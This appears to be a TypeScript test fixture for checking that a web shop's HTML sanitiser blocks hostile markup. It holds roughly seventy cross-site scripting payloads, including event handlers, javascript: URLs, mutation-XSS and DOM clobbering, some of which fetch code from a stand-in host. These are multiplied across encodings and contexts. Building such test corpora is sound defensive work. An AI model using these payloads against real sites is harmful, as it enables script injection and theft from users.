/** Target of the attacks; it does not exist. */
export const foreignOrigin = 'https://collector.invalid';

/** Property of `window` that shows that a script ran. */
export const ranMark = 'pawletRan';

const run = `window.${ranMark}=1`;

/** Attempts to run a script or to fetch something. */
const attacks: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${foreignOrigin}/a.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run}//`,
  `<img/src=x/onerror=${run}>`,
  `<img src="x" OnErRoR="${run}">`,
  `<img srcset="${foreignOrigin}/b 1x" src=x>`,
  `<img src=x style="background:url(${foreignOrigin}/c)">`,
  `<svg onload="${run}"></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s></animate></svg>`,
  `<svg><use href="${foreignOrigin}/d#x"></use></svg>`,
  `<svg><image href="${foreignOrigin}/e"></image></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="${foreignOrigin}/f"></iframe>`,
  `<object data="${foreignOrigin}/g"></object>`,
  `<embed src="${foreignOrigin}/h">`,
  `<video src="${foreignOrigin}/i" autoplay onerror="${run}"></video>`,
  `<video poster="${foreignOrigin}/j"></video>`,
  `<audio src="${foreignOrigin}/k" autoplay onerror="${run}"></audio>`,
  `<video><source onerror="${run}" src=x></video>`,
  `<link rel="stylesheet" href="${foreignOrigin}/l.css">`,
  `<link rel="prefetch" href="${foreignOrigin}/m">`,
  `<style>@import url(${foreignOrigin}/n.css);</style>`,
  `<style>*{background:url(${foreignOrigin}/o)}</style>`,
  `<p style="background-image:url(${foreignOrigin}/p)">x</p>`,
  `<meta http-equiv="refresh" content="0;url=${foreignOrigin}/q">`,
  `<base href="${foreignOrigin}/">`,
  `<form action="${foreignOrigin}/r"><input name=a autofocus onfocus="${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<input type="image" src="${foreignOrigin}/s">`,
  `<textarea autofocus onfocus="${run}"></textarea>`,
  `<select autofocus onfocus="${run}"></select>`,
  `<details open ontoggle="${run}">x</details>`,
  `<marquee onstart="${run}">x</marquee>`,
  `<body onload="${run}" onpageshow="${run}">`,
  `<p onpointerenter="${run}" tabindex=1 onfocus="${run}" autofocus>x</p>`,
  `<table background="${foreignOrigin}/t"><tr><td>x</table>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href=" javascript:${run}">x</a>`,
  `<a href="JaVaScRiPt:${run}">x</a>`,
  `<a href="java&#10;script:${run}">x</a>`,
  `<a href="java&Tab;script:${run}">x</a>`,
  `<a href="&#x6A;avascript:${run}">x</a>`,
  `<a href="&#1;javascript:${run}">x</a>`,
  `<a href="vbscript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="blob:${foreignOrigin}/u">x</a>`,
  `<a href="https:x" ping="${foreignOrigin}/v">x</a>`,
  `<a href="#" target="_self" onclick="${run}">x</a>`,
  `<img name="getElementById" src=x><img id="cookie" src=x>`,
  `<a id="location" href="javascript:${run}">x</a>`,
  `<div class="_page" id="root" data-pawlet-root is="pawlet-cart">x</div>`,
  `<pawlet-cart api-origin="${foreignOrigin}"></pawlet-cart>`,
  `<dialog open onclose="${run}">x</dialog>`,
  `<p popover id="a" onbeforetoggle="${run}">x</p>`,
  `"><img src=x onerror=${run}>`,
  `'-${run}-'`,
  `</script><script>${run}</script>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<!--><script>${run}</script>-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml-stylesheet href="${foreignOrigin}/w.css"?>`,
  '\u202E<b>x</b>\u0000',
  '\uD800',
];

const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll(/<(\w)/gu, '<\u0000$1'),
  (text) => text.replaceAll(' ', '\n\t'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(/<\/?\w+/gu, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll('"', '`'),
  (text) => text.replaceAll('<s', '<<s').replaceAll('<i', '<<i'),
  (text) => encodeURIComponent(text.replaceAll(/\p{Surrogate}/gu, '')),
];

const contexts: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `<p>${text}</p>`,
  (text) => `<a href="https://example.com/${text}">x</a>`,
  (text) => `<img alt="${text}" src="/x.webp">`,
  (text) => `<table><tr><td>${text}</td></tr></table>`,
  (text) => `<svg><desc>${text}</desc></svg>`,
  (text) => `<math><annotation-xml encoding="text/html">${text}</annotation-xml></math>`,
  (text) => `<style>${text}</style>`,
  (text) => `<textarea>${text}</textarea>`,
  (text) => `<!-- ${text} -->`,
  (text) => `<ul><li>${text}<li>${text}</ul>`,
];

/** Hostile texts as written by a shopper or in the shop's office: each attack alone. */
export const hostileTexts = attacks;

/** Every attack in every encoding and context. */
export function hostileHtml(): readonly string[] {
  return attacks.flatMap((attack) =>
    encodings.flatMap((encode) => contexts.map((context) => context(encode(attack)))),
  );
}
